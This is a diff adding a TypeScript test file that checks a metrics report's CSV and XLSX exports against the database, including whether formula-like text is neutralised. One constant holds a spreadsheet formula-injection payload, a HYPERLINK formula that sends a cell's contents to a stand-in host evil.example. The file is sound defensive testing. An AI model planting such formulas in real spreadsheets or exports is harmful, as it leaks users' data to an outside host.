@@ -1,0 +1,163 @@
+import Database from 'better-sqlite3'
+import ExcelJS from 'exceljs'
+import Papa from 'papaparse'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { createTempDatabase, type TempDatabase } from '@/lib/db/temp-database'
+import { CATALOGUE, getMetric } from '@/lib/metrics/catalogue'
+import { renderReportCsv } from './csv'
+import type { ReportModel } from './report-types'
+import { renderReportXlsx } from './xlsx'
+
+/**
+ * The numbers agree everywhere: for a seeded quarter, the CSV and the XLSX, each parsed back, say
+ * exactly what the database holds. The expectations are read straight from the SQLite file with
+ * better-sqlite3, not through the app's queries, so a bug in the read path cannot hide itself.
+ */
+const QUARTER = '2026-Q3'
+const EVIL_TEAM = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+let temp: TempDatabase
+let raw: Database.Database
+let app: { prisma: typeof import('@/lib/db/client').prisma; getReport: typeof import('@/lib/db/queries/report').getReport; getScopeBySlug: typeof import('@/lib/db/queries/teams').getScopeBySlug }
+
+beforeAll(async () => {
+  temp = createTempDatabase('exports-agree')
+  process.env.DATABASE_URL = temp.url
+  delete (globalThis as { prisma?: unknown }).prisma
+  const [{ prisma }, { loadDemoData }, { getReport }, { getScopeBySlug }] = await Promise.all([
+    import('@/lib/db/client'),
+    import('@/lib/db/services/load-demo-data'),
+    import('@/lib/db/queries/report'),
+    import('@/lib/db/queries/teams'),
+  ])
+  app = { prisma, getReport, getScopeBySlug }
+  await loadDemoData(QUARTER, 'seed')
+  // Cases the demo data lacks: a negative eNPS, a blank figure, a figure with its n, an odd source,
+  // a team whose name a spreadsheet would run as a formula, and a target set this quarter.
+  const key = (metricKey: string) => ({ scope_quarter_metricKey: { scope: 'org', quarter: QUARTER, metricKey } })
+  await prisma.figure.update({ where: key('enps'), data: { value: -12, n: 41, source: 'manual' } })
+  await prisma.figure.update({ where: key('major_incidents'), data: { value: null, n: null, source: 'manual' } })
+  await prisma.figure.update({ where: key('deployment_frequency'), data: { source: '@import:deploys.csv' } })
+  await prisma.target.upsert({
+    where: { scope_quarter_metricKey: { scope: 'org', quarter: QUARTER, metricKey: 'mttr_hours' } },
+    create: { scope: 'org', quarter: QUARTER, metricKey: 'mttr_hours', value: 3.5 },
+    update: { value: 3.5 },
+  })
+  const team = await prisma.team.create({ data: { slug: 'evil', name: EVIL_TEAM } })
+  await prisma.figure.createMany({
+    data: [
+      { scope: team.id, quarter: QUARTER, metricKey: 'releases', value: 7, source: 'manual', updatedBy: 'mallory' },
+      { scope: team.id, quarter: QUARTER, metricKey: 'attrition_rate', value: 16.666666666666664, n: 90, source: '-1+1', updatedBy: 'mallory' },
+    ],
+  })
+  raw = new Database(temp.file, { readonly: true })
+}, 120_000)
+
+afterAll(async () => {
+  raw?.close()
+  await app?.prisma.$disconnect()
+  temp?.remove()
+})
+
+interface Stored {
+  value: number | null
+  n: number | null
+  source: string
+  updatedAt: string
+}
+
+/** What the database holds for one figure, and the target in effect (latest set at or before the quarter, else the default). */
+function stored(scope: string, metricKey: string) {
+  const figure = raw.prepare('SELECT value, n, source, updatedAt FROM Figure WHERE scope = ? AND quarter = ? AND metricKey = ?').get(scope, QUARTER, metricKey) as Stored | undefined
+  const target = raw
+    .prepare('SELECT value FROM Target WHERE scope = ? AND metricKey = ? AND quarter <= ? ORDER BY quarter DESC LIMIT 1')
+    .get(scope, metricKey, QUARTER) as { value: number | null } | undefined
+  const metric = getMetric(metricKey)
+  return { figure, target: metric.direction === 'none' ? null : target ? target.value : metric.defaultTarget }
+}
+
+/** Prisma's SQLite driver returns a double with about 16 significant digits; the file keeps all 17. */
+function sameNumber(a: number | null, b: number | null): boolean {
+  if (a === null || b === null) return a === b
+  return Math.abs(a - b) <= 1e-12 * Math.max(1, Math.abs(a), Math.abs(b))
+}
+
+const quoted = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text)
+
+async function exportsOf(slug: string): Promise<{ model: ReportModel; csv: Record<string, string>[]; xlsx: Record<string, ExcelJS.CellValue>[] }> {
+  const scope = await app.getScopeBySlug(slug)
+  if (!scope) throw new Error(`no scope ${slug}`)
+  const model = await app.getReport(scope, QUARTER, 'Tester')
+  const csv = Papa.parse<Record<string, string>>(renderReportCsv(model).replace(/^\ufeff/, ''), { header: true, skipEmptyLines: true }).data
+  const workbook = new ExcelJS.Workbook()
+  await workbook.xlsx.load((await renderReportXlsx(model)) as unknown as ArrayBuffer)
+  const sheet = workbook.getWorksheet('All figures')!
+  const names = (sheet.getRow(1).values as ExcelJS.CellValue[]).slice(1).map(String)
+  const xlsx: Record<string, ExcelJS.CellValue>[] = []
+  sheet.eachRow((row, i) => {
+    if (i > 1) xlsx.push(Object.fromEntries(names.map((name, c) => [name, row.getCell(c + 1).value ?? null])))
+  })
+  return { model, csv, xlsx }
+}
+
+describe.each([
+  ['org', 'org', 'Your organisation'],
+  ['evil', null, EVIL_TEAM],
+  ['platform', null, 'Platform'],
+])('the exports of %s for the seeded quarter', (slug, fixedId, scopeName) => {
+  it('give every figure exactly as the database holds it, in CSV and XLSX alike', async () => {
+    const { csv, xlsx, model } = await exportsOf(slug)
+    const scopeId = fixedId ?? (raw.prepare('SELECT id FROM Team WHERE slug = ?').get(slug) as { id: string }).id
+    expect(csv.map((r) => r['metric key'])).toEqual(CATALOGUE.map((m) => m.key).filter((k) => model.appendix.figures.some((f) => f.key === k)))
+    expect(csv).toHaveLength(CATALOGUE.length)
+    expect(xlsx).toHaveLength(CATALOGUE.length)
+    let withValue = 0
+    csv.forEach((row, i) => {
+      const cell = xlsx[i]
+      const key = row['metric key']
+      const { figure, target } = stored(scopeId, key)
+      const value = figure?.value ?? null
+      const where = `${slug}/${key}`
+      if (value !== null) withValue++
+      expect([where, row.quarter, row.scope, cell.quarter, cell.scope]).toEqual([where, QUARTER, quoted(scopeName), QUARTER, quoted(scopeName)])
+      expect([where, cell['metric key']]).toEqual([where, key])
+      // A blank figure is an empty cell, never 0.
+      expect([where, row.value === '' ? null : sameNumber(Number(row.value), value)]).toEqual([where, value === null ? null : true])
+      expect([where, sameNumber(cell.value as number | null, value)]).toEqual([where, true])
+      expect([where, row.n, cell.n]).toEqual([where, figure?.n == null ? '' : String(figure.n), figure?.n ?? null])
+      expect([where, row.target === '' ? null : sameNumber(Number(row.target), target), sameNumber(cell.target as number | null, target)]).toEqual([
+        where,
+        target === null ? null : true,
+        true,
+      ])
+      const source = value === null ? '' : quoted(figure!.source)
+      expect([where, row.source, cell.source ?? '']).toEqual([where, source, source])
+      const updatedAt = figure ? new Date(figure.updatedAt).toISOString() : ''
+      expect([where, row['updated at'], cell['updated at'] instanceof Date ? cell['updated at'].toISOString() : cell['updated at'] ?? '']).toEqual([where, updatedAt, updatedAt])
+      // The score is the one the report shows, the same in both files.
+      expect([where, row.score, cell.score ?? '']).toEqual([where, model.appendix.figures[i].scoreText.replace('—', ''), row.score === '' ? '' : Number(row.score)])
+    })
+    const count = raw.prepare('SELECT COUNT(*) AS c FROM Figure WHERE scope = ? AND quarter = ? AND value IS NOT NULL').get(scopeId, QUARTER) as { c: number }
+    expect(withValue).toBe(count.c)
+  })
+})
+
+describe('the seeded cases', () => {
+  it('keep a negative eNPS a number, a blank figure blank, a target set this quarter, and neutralise text', async () => {
+    const { csv, xlsx } = await exportsOf('org')
+    const row = (key: string) => csv.find((r) => r['metric key'] === key)!
+    const cell = (key: string) => xlsx.find((r) => r['metric key'] === key)!
+    expect(row('enps')).toMatchObject({ value: '-12', n: '41' })
+    expect(cell('enps')).toMatchObject({ value: -12, n: 41 })
+    expect(row('major_incidents')).toMatchObject({ value: '', score: '', status: 'No data' })
+    expect(cell('major_incidents')).toMatchObject({ value: null, score: null })
+    expect(row('mttr_hours').target).toBe('3.5')
+    expect(row('deployment_frequency').source).toBe("'@import:deploys.csv")
+    const evil = await exportsOf('evil')
+    expect(evil.csv[0].scope).toBe(`'${EVIL_TEAM}`)
+    const attrition = evil.csv.find((r) => r['metric key'] === 'attrition_rate')!
+    expect(attrition).toMatchObject({ n: '90', source: "'-1+1" })
+    // The file holds 16.666666666666664; Prisma's driver reads back 16 significant digits.
+    expect(sameNumber(Number(attrition.value), 16.666666666666664)).toBe(true)
+  })
+})
